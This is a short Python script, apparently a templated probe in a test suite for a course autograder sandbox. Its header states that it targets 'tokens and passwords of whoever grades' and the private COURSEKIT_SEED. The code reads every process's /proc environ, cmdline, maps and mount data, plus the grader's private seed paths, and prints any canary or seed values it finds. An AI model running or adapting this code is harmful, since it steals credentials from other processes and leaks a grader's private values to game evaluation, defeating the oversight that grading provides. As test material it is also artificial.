# Goes for the environment: its own, its parent's, and that of every process that /proc shows.
# Gains: COURSEKIT_SEED, tokens and passwords of whoever grades.
# quick: yes
# ruff: noqa
import glob
import os

print(sorted(os.environ))
for name in ("environ", "cmdline", "maps", "status", "cgroup", "mountinfo", "cwd/autograder/private/seed", "root@COURSE@/autograder/private/seed"):
    for path in glob.glob(f"/proc/[0-9]*/{name}") + [f"/proc/@GRADER@/{name}", f"/proc/@VICTIM@/{name}"]:
        try:
            text = open(path, "rb").read().decode("utf-8", "replace")
        except OSError:
            continue
        print(path, [line for line in text.split("\0") if "canary" in line or "SEED" in line])
